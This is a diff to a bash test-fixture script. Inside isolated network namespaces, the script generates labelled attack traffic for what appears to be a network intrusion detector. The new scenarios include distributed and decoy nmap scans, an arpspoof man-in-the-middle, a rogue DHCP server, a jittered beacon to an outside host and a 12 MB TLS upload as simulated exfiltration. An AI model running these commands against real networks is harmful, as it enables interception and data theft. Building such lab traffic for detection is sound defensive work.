@@ -10,7 +10,9 @@
 #   sudo tests/lab/make_fixtures.sh --up            # build the lab, wait (debugging)
 #
 # Environment: LAB_OUT (default tests/fixtures), LAB_BENIGN_SECONDS (240),
-# LAB_HOLDOUT_SECONDS (60), LAB_MIXED_SECONDS (90), LAB_KEEP=1 keeps the work
+# LAB_HOLDOUT_SECONDS (60), LAB_MIXED_SECONDS (90), LAB_LAN_SECONDS (180),
+# LAB_LAN_HOLDOUT_SECONDS (120),
+# LAB_BEACON_COUNT (30), LAB_PREFIX (nslab-: namespace names), LAB_KEEP=1 keeps the work
 # directory (logs, configs) after the run.
 #
 # Topology (home_net 10.99.0.0/24; namespaces are named nslab-<name>; each
@@ -37,7 +39,7 @@ OUT="${LAB_OUT:-$REPO/tests/fixtures}"
 BENIGN_SECONDS="${LAB_BENIGN_SECONDS:-240}"
 HOLDOUT_SECONDS="${LAB_HOLDOUT_SECONDS:-60}"
 MIXED_SECONDS="${LAB_MIXED_SECONDS:-90}"
-P="nslab-" # namespace name prefix
+P="${LAB_PREFIX:-nslab-}" # namespace name prefix (LAB_PREFIX: run two labs at once)
 
 PASSWORD="$(tail -n 1 "$HERE/wordlist.txt")" # ssh labuser and web admin
 SSH_USER="labuser"
@@ -60,7 +62,8 @@ ALL_SCENARIOS=(benign benign_holdout scan_syn scan_frag scan_connect scan_fin sc
   scan_null scan_udp scan_ack scan_slow sweep_icmp sweep_tcp flood_syn
   flood_udp flood_icmp brute_ssh brute_http dns_tunnel dns_exfil
   malformed_http suspicious_ports external_inbound mixed tls12 tls13
-  http_keepalive dns_tcp)
+  http_keepalive dns_tcp scan_distributed scan_decoy arp_spoof rogue_dhcp beacon
+  exfil_upload benign_lan benign_lan_holdout)
 
 # name | addresses (first is primary) | route prefixes reached on-link
 HOSTS=(
@@ -112,6 +115,7 @@ listening() {
 
 WORK=""
 CREATED_RUN_SSHD=0
+CREATED_RUN_AVAHI=0
 CREATED_ETC_NETNS=0
 CAP_PID=""
 
@@ -140,6 +144,7 @@ teardown() {
   rm -rf /etc/netns/"$P"*
   ((CREATED_ETC_NETNS)) && rmdir /etc/netns 2>/dev/null
   ((CREATED_RUN_SSHD)) && rmdir /run/sshd 2>/dev/null
+  ((CREATED_RUN_AVAHI)) && rmdir /run/avahi-daemon 2>/dev/null
   if [[ -n "$WORK" && -d "$WORK" ]]; then
     if [[ "${LAB_KEEP:-}" == 1 ]]; then say "work directory kept: $WORK"; else rm -rf "$WORK"; fi
   fi
@@ -153,7 +158,8 @@ check_tools() {
   [[ $(id -u) -eq 0 ]] || die "Cannot build the lab: run as root (sudo $0)"
   local t missing=()
   for t in ip ss ethtool tcpdump nmap hping3 hydra iodine iodined dnsmasq \
-    /usr/sbin/sshd ssh ssh-keygen openssl curl dig nc deno ifconfig base32; do
+    /usr/sbin/sshd ssh ssh-keygen openssl curl dig nc deno ifconfig base32 \
+    arpspoof dhclient udhcpc avahi-daemon chronyd timeout; do
     command -v "$t" >/dev/null || missing+=("$t")
   done
   ((${#missing[@]} == 0)) || die "Cannot build the lab: missing ${missing[*]} (./run.sh setup test)"
@@ -882,6 +888,352 @@ scn_dns_tcp() {
   nsx client2 dig +tcp +tries=1 +time=3 @"$VICTIM" example.com MX >/dev/null ||
     die "dig +tcp failed"
   stop_capture
+}
+
+# ---------------------------------------------------------------- issue 23:
+# distributed scans, layer 2, DHCP, beacons, exfiltration, LAN chatter.
+# These scenarios add namespaces of their own for their duration (add_host),
+# so the lab's other captures keep their shape.
+
+# add_host NAME MAC ADDRS ROUTES: a namespace on the bridge for one scenario
+# (MAC "" derives it from the first address; ADDRS "" leaves eth0 without
+# one, for DHCP clients). Teardown removes it if the scenario does not.
+add_host() {
+  local name="$1" mac="$2" addrs="$3" routes="$4" addr r
+  ip netns add "$P$name"
+  NS_NAMES+=("$name")
+  nsx "$name" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+  nsx "$name" ip link set lo up
+  ip link add "p-$name" netns "${P}sw" type veth peer name eth0 netns "$P$name"
+  nsx sw ip link set "p-$name" master br0 up
+  [[ -n "$mac" ]] || { addr="${addrs%% *}"; mac="$(mac_for "${addr%/*}")"; }
+  nsx "$name" ip link set eth0 address "$mac"
+  nsx "$name" ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
+  for addr in $addrs; do nsx "$name" ip addr add "$addr" dev eth0; done
+  nsx "$name" ip link set eth0 up
+  for r in $routes; do nsx "$name" ip route add "$r" dev eth0; done
+  mkdir -p "/etc/netns/$P$name"
+  printf 'nameserver %s\nsearch lab.test\noptions timeout:2 attempts:1\n' "$VICTIM" >"/etc/netns/$P$name/resolv.conf"
+}
+
+# drop_host NAME...: stops what runs in the namespaces and removes them.
+drop_host() {
+  local name pids deadline
+  for name in "$@"; do
+    pids="$(ip netns pids "$P$name" 2>/dev/null)"
+    # shellcheck disable=SC2086
+    [[ -n "$pids" ]] && kill -TERM $pids 2>/dev/null
+    deadline=$((SECONDS + 5))
+    while [[ -n "$(ip netns pids "$P$name" 2>/dev/null)" ]] && ((SECONDS < deadline)); do sleep 0.1; done
+    pids="$(ip netns pids "$P$name" 2>/dev/null)"
+    # shellcheck disable=SC2086
+    [[ -n "$pids" ]] && kill -KILL $pids 2>/dev/null
+    ip netns del "$P$name" 2>/dev/null || true
+    rm -rf "/etc/netns/$P$name"
+  done
+}
+
+# web_server NS ADDR [PORT] [TLS_PORT]: the lab web server, waited for
+# (its pid in WEB_PID).
+WEB_PID=""
+web_server() {
+  local ns="$1" addr="$2" port="${3:-80}" tls="${4:-}" deno args=()
+  deno="$(command -v deno)"
+  args=(--host "$addr" --port "$port")
+  [[ -n "$tls" ]] && args+=(--tls-port "$tls" --cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem")
+  DENO_NO_UPDATE_CHECK=1 ip netns exec "$P$ns" "$deno" run --allow-net \
+    --allow-read="$WORK/tls" "$HERE/http_server.ts" "${args[@]}" >>"$WORK/log/web-$ns.log" 2>&1 &
+  WEB_PID=$!
+  wait_for 60 "web server on $addr:$port" listening "$ns" tcp "$port"
+  [[ -z "$tls" ]] || wait_for 60 "web server on $addr:$tls" listening "$ns" tcp "$tls"
+}
+
+# scan_distributed: five scouts split one scan of 50 ports of the victim,
+# 10 ports each (the per-source threshold is 15).
+scn_scan_distributed() {
+  local i pids=()
+  for i in 1 2 3 4 5; do add_host "scout$i" "" "10.99.0.$((70 + i))/24" ""; done
+  start_capture scan_distributed 512
+  for i in 1 2 3 4 5; do
+    nsx "scout$i" nmap -n -Pn -sS -T4 -p "$((i * 10 - 9))-$((i * 10))" "$VICTIM" \
+      >>"$WORK/log/nmap.log" 2>&1 &
+    pids+=($!)
+  done
+  wait "${pids[@]}"
+  stop_capture
+  drop_host scout1 scout2 scout3 scout4 scout5
+}
+
+# scan_decoy: nmap hides its SYN scan of 100 ports among four decoys.
+scn_scan_decoy() {
+  start_capture scan_decoy 512
+  nmap_at -Pn -sS -T4 -p 1-100 -D 10.99.0.201,10.99.0.202,ME,10.99.0.203,10.99.0.204 "$VICTIM"
+  stop_capture
+}
+
+# arp_spoof: a gateway (10.99.0.1) routes to a web server outside
+# (192.0.2.80, behind it on a link of its own). The client browses through
+# it; then the attacker poisons both with arpspoof and forwards (man in the
+# middle) while the client keeps browsing; arpspoof restores on exit.
+scn_arp_spoof() {
+  local i spoof
+  add_host gw "" "10.99.0.1/24" ""
+  ip netns add "${P}web"
+  NS_NAMES+=(web)
+  ip link add eth1 netns "${P}gw" type veth peer name eth0 netns "${P}web"
+  nsx gw ethtool -K eth1 tx off tso off gso off gro off >/dev/null 2>&1 || true
+  nsx web ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
+  nsx gw ip addr add 192.0.2.1/24 dev eth1
+  nsx gw ip link set eth1 up
+  nsx gw sysctl -qw net.ipv4.ip_forward=1
+  nsx web ip link set lo up
+  nsx web ip addr add 192.0.2.80/24 dev eth0
+  nsx web ip link set eth0 up
+  nsx web ip route add default via 192.0.2.1
+  web_server web 192.0.2.80 80
+  nsx client ip route add 192.0.2.0/24 via 10.99.0.1
+  nsx attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 \
+    net.ipv4.conf.eth0.send_redirects=0
+  start_capture arp_spoof 256
+  RANDOM=2301
+  for i in 1 2 3; do
+    pick "${PAGES[@]}"
+    nsx client curl -s -o /dev/null --max-time 10 -A "$UA" "http://192.0.2.80/page/$PICK.html" || true
+    think 5 10
+  done
+  # ip netns exec execs arpspoof, so $! is arpspoof itself (nsx in the
+  # background would be a subshell, and killing it would leave arpspoof).
+  ip netns exec "${P}attacker" arpspoof -i eth0 -r -t "$CLIENT" 10.99.0.1 \
+    >>"$WORK/log/arpspoof.log" 2>&1 &
+  spoof=$!
+  for i in 1 2 3 4 5 6 7 8; do
+    think 10 15
+    pick "${PAGES[@]}"
+    nsx client curl -s -o /dev/null --max-time 10 -A "$UA" "http://192.0.2.80/page/$PICK.html" || true
+  done
+  kill -TERM "$spoof" # it re-ARPs the true addresses before it exits
+  wait "$spoof" || true
+  stop_capture
+  nsx client ip route del 192.0.2.0/24 via 10.99.0.1 || true
+  nsx attacker sysctl -qw net.ipv4.ip_forward=0 net.ipv4.conf.all.send_redirects=1 \
+    net.ipv4.conf.eth0.send_redirects=1
+  drop_host web gw
+}
+
+# dhcp_conf NAME FIRST LAST ROUTER DNS LEASE: a dnsmasq DHCP-only config.
+dhcp_conf() {
+  cat >"$WORK/dhcp-$1.conf" <<CONF
+port=0
+interface=eth0
+bind-interfaces
+dhcp-range=$2,$3,255.255.255.0,$6
+dhcp-option=option:router,$4
+dhcp-option=option:dns-server,$5
+dhcp-leasefile=$WORK/run/dhcp-$1.leases
+dhcp-authoritative
+pid-file=$WORK/run/dhcp-$1.pid
+log-dhcp
+CONF
+}
+
+# dhclient_once NS: one DHCP exchange with ISC dhclient (no script: the
+# lease is only recorded, the namespace's address is left alone).
+dhclient_once() {
+  local pid
+  : >"$WORK/log/dhclient-$1.log"
+  ip netns exec "$P$1" dhclient -1 -d -v -sf /bin/true -lf "$WORK/run/$1.leases" \
+    -pf "$WORK/run/$1.pid" eth0 >>"$WORK/log/dhclient-$1.log" 2>&1 &
+  pid=$!
+  wait_for 30 "a DHCP lease in $1" grep -q "bound to" "$WORK/log/dhclient-$1.log"
+  kill -TERM "$pid" 2>/dev/null || true
+  wait "$pid" 2>/dev/null || true
+}
+
+# rogue_dhcp: the network's DHCP server (10.99.0.2) leases to a dhclient
+# client; then a rogue dnsmasq (10.99.0.77) comes up handing out itself as
+# router and DNS, and a udhcpc client and the dhclient client ask again.
+scn_rogue_dhcp() {
+  add_host dhcpd "" "10.99.0.2/24" ""
+  add_host rogue "" "10.99.0.77/24" ""
+  add_host dhcpc1 02:99:00:00:dc:01 "" ""
+  add_host dhcpc2 02:99:00:00:dc:02 "" ""
+  dhcp_conf real 10.99.0.150 10.99.0.169 10.99.0.1 "$VICTIM" 2m
+  dhcp_conf rogue 10.99.0.170 10.99.0.189 10.99.0.77 10.99.0.77 2m
+  start_capture rogue_dhcp 512
+  ip netns exec "${P}dhcpd" dnsmasq -k -C "$WORK/dhcp-real.conf" >"$WORK/log/dhcp-real.log" 2>&1 &
+  wait_for 20 "DHCP server on 10.99.0.2" listening dhcpd udp 67
+  dhclient_once dhcpc1
+  ip netns exec "${P}rogue" dnsmasq -k -C "$WORK/dhcp-rogue.conf" >"$WORK/log/dhcp-rogue.log" 2>&1 &
+  wait_for 20 "rogue DHCP server on 10.99.0.77" listening rogue udp 67
+  sleep 1
+  nsx dhcpc2 timeout 30 udhcpc -i eth0 -f -n -q -s /bin/true -t 5 -T 2 \
+    >>"$WORK/log/udhcpc.log" 2>&1 || true
+  rm -f "$WORK/run/dhcpc1.leases"
+  dhclient_once dhcpc1
+  stop_capture
+  drop_host dhcpc1 dhcpc2 rogue dhcpd
+}
+
+# beacon: client3 checks in with a web server outside (203.0.113.66:8080)
+# every 5 s with ±1 s of jitter, the same small request every time.
+scn_beacon() {
+  local i n="${LAB_BEACON_COUNT:-30}" web
+  web_server outside "$OUTSIDE" 8080
+  web=$WEB_PID
+  start_capture beacon 512
+  RANDOM=2305
+  for ((i = 0; i < n; i++)); do
+    nsx client3 curl -s -o /dev/null --max-time 5 -A "Mozilla/5.0" \
+      "http://$OUTSIDE:8080/api/status" || true
+    think 40 21
+  done
+  stop_capture
+  kill -TERM "$web" 2>/dev/null || true
+  wait "$web" 2>/dev/null || true
+}
+
+# exfil_upload: client2 talks to an outside HTTPS service it uses (small
+# requests), then uploads 12 MB over TLS to an address never used before
+# (192.0.2.99, on-link outside home_net).
+scn_exfil_upload() {
+  local i web
+  add_host drop "" "192.0.2.99/24" "10.99.0.0/24"
+  web_server drop 192.0.2.99 80 443
+  web_server outside "$OUTSIDE" 8081 8443
+  web=$WEB_PID
+  nsx client2 ip route add 192.0.2.0/24 dev eth0
+  { openssl enc -aes-128-ctr -nosalt -K 0f0e0d0c0b0a09080706050403020100 \
+    -iv 00000000000000000000000000000000 </dev/zero 2>/dev/null || true; } |
+    head -c 12582912 >"$WORK/data/upload.bin"
+  start_capture exfil_upload 96
+  for i in 1 2 3 4 5 6; do
+    nsx client2 curl -sk -o /dev/null --max-time 10 -H 'content-type: application/json' \
+      --data '{"note":"sync","seq":'"$i"'}' "https://$OUTSIDE:8443/api/echo" || true
+    sleep 0.5
+  done
+  nsx client2 curl -sk -o /dev/null --max-time 60 --data-binary "@$WORK/data/upload.bin" \
+    "https://192.0.2.99/api/echo"
+  stop_capture
+  nsx client2 ip route del 192.0.2.0/24 dev eth0 || true
+  kill -TERM "$web" 2>/dev/null || true
+  wait "$web" 2>/dev/null || true
+  drop_host drop
+}
+
+# avahi_in NS NAME: an mDNS responder (avahi-daemon without D-Bus) in NS;
+# its pid and socket directory is a tmpfs of the command's own mount
+# namespace, so several daemons run side by side.
+avahi_in() {
+  cat >"$WORK/avahi-$1.conf" <<CONF
+[server]
+host-name=$2
+domain-name=local
+use-ipv4=yes
+use-ipv6=no
+allow-interfaces=eth0
+enable-dbus=no
+[publish]
+publish-workstation=yes
+publish-addresses=yes
+[reflector]
+[rlimits]
+CONF
+  ip netns exec "$P$1" sh -c "mount -t tmpfs none /run/avahi-daemon && exec avahi-daemon -f '$WORK/avahi-$1.conf' --no-drop-root --no-chroot --no-rlimits" \
+    >"$WORK/log/avahi-$1.log" 2>&1 &
+  LAN_PIDS+=($!)
+}
+
+# chrony_conf NAME LINES...: a chronyd config that never touches the clock
+# files of the host.
+chrony_conf() {
+  local name="$1"
+  shift
+  { printf '%s\n' "$@"
+    printf 'cmdport 0\nbindcmdaddress /\npidfile %s\ndriftfile %s\n' \
+      "$WORK/run/chrony-$name.pid" "$WORK/run/chrony-$name.drift"; } >"$WORK/chrony-$name.conf"
+}
+
+# lan_chatter SEED SECONDS: SSDP announcements and searches, mDNS
+# questions, the sounds of a home network between the services.
+lan_chatter() {
+  local secs="$2" end ns
+  RANDOM="$1"
+  end=$((SECONDS + secs))
+  while ((SECONDS < end)); do
+    case $((RANDOM % 3)) in
+      0)
+        nsx farm bash -c 'printf "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: http://10.99.0.100:49152/desc.xml\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nSERVER: Linux/5.10 UPnP/1.0 tv/1.0\r\nUSN: uuid:2f402f80-da50-11e1-9b23-0299aa630064::upnp:rootdevice\r\n\r\n" >/dev/udp/239.255.255.250/1900' 2>/dev/null || true
+        ;;
+      1)
+        pick client client2 client3
+        nsx "$PICK" bash -c 'printf "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n" >/dev/udp/239.255.255.250/1900' 2>/dev/null || true
+        ;;
+      2)
+        pick client client2 admin
+        ns="$PICK"
+        pick _workstation._tcp.local _http._tcp.local _services._dns-sd._udp.local
+        nsx "$ns" dig +tries=1 +time=1 -p 5353 @224.0.0.251 "$PICK" PTR >/dev/null 2>&1 || true
+        ;;
+    esac
+    think 30 70
+  done
+}
+
+# benign_lan (LAB_LAN_SECONDS, 180) and benign_lan_holdout
+# (LAB_LAN_HOLDOUT_SECONDS, 120; other seeds): the office actors, plus what a
+# home LAN carries besides: mDNS responders (avahi-daemon) on four hosts with
+# their IGMP joins, SSDP, an NTP server (chronyd on the victim) polled by
+# two clients every 16 s, a DHCP server with a client renewing a 2-minute
+# lease, and the admin's interactive ssh sessions.
+scn_benign_lan() { lan_capture benign_lan "${LAB_LAN_SECONDS:-180}" 7000; }
+scn_benign_lan_holdout() { lan_capture benign_lan_holdout "${LAB_LAN_HOLDOUT_SECONDS:-120}" 8000; }
+
+LAN_PIDS=()
+# lan_capture NAME SECONDS SEED_BASE
+lan_capture() {
+  local name="$1" secs="$2" seed="$3" ns ntpd
+  add_host dhcpd "" "10.99.0.2/24" ""
+  add_host dhcpc1 02:99:00:00:dc:01 "" ""
+  dhcp_conf real 10.99.0.150 10.99.0.169 10.99.0.1 "$VICTIM" 2m
+  for ns in client client2 client3 admin farm; do nsx "$ns" ip route add 224.0.0.0/4 dev eth0; done
+  chrony_conf server "allow 10.99.0.0/24" "local stratum 8" "port 123"
+  chrony_conf client "server $VICTIM iburst minpoll 4 maxpoll 4" "port 0"
+  chrony_conf client2 "server $VICTIM iburst minpoll 4 maxpoll 4" "port 0"
+  ip netns exec "${P}victim" chronyd -x -d -u root -f "$WORK/chrony-server.conf" \
+    >"$WORK/log/chrony-server.log" 2>&1 &
+  ntpd=$!
+  wait_for 20 "NTP server on $VICTIM:123" listening victim udp 123
+  ip netns exec "${P}dhcpd" dnsmasq -k -C "$WORK/dhcp-real.conf" >"$WORK/log/dhcp-real.log" 2>&1 &
+  wait_for 20 "DHCP server on 10.99.0.2" listening dhcpd udp 67
+  if [[ ! -d /run/avahi-daemon ]]; then mkdir -m 755 /run/avahi-daemon && CREATED_RUN_AVAHI=1; fi
+  start_capture "$name" 512
+  avahi_in client lab-laptop
+  avahi_in client2 lab-phone
+  avahi_in admin lab-admin
+  avahi_in farm lab-printer
+  ip netns exec "${P}client" chronyd -x -d -u root -f "$WORK/chrony-client.conf" \
+    >"$WORK/log/chrony-client.log" 2>&1 &
+  LAN_PIDS+=($!)
+  ip netns exec "${P}client2" chronyd -x -d -u root -f "$WORK/chrony-client2.conf" \
+    >"$WORK/log/chrony-client2.log" 2>&1 &
+  LAN_PIDS+=($!)
+  # With its script this time: the client takes the address, so it renews
+  # by unicast every minute as a real one does (the namespace's own
+  # resolv.conf and routes are all it changes).
+  ip netns exec "${P}dhcpc1" dhclient -d -v -lf "$WORK/run/dhcpc1.leases" \
+    -pf "$WORK/run/dhcpc1.pid" eth0 >>"$WORK/log/dhclient-dhcpc1.log" 2>&1 &
+  LAN_PIDS+=($!)
+  lan_chatter "$((seed + 7))" "$secs" &
+  benign_traffic "$secs" "$seed" 0
+  wait $! || true
+  kill -TERM "${LAN_PIDS[@]}" 2>/dev/null || true
+  wait "${LAN_PIDS[@]}" 2>/dev/null || true
+  LAN_PIDS=()
+  stop_capture
+  kill -TERM "$ntpd" 2>/dev/null || true
+  wait "$ntpd" 2>/dev/null || true
+  for ns in client client2 client3 admin farm; do nsx "$ns" ip route del 224.0.0.0/4 dev eth0 || true; done
+  drop_host dhcpc1 dhcpd
 }
 
 # ---------------------------------------------------------------- main
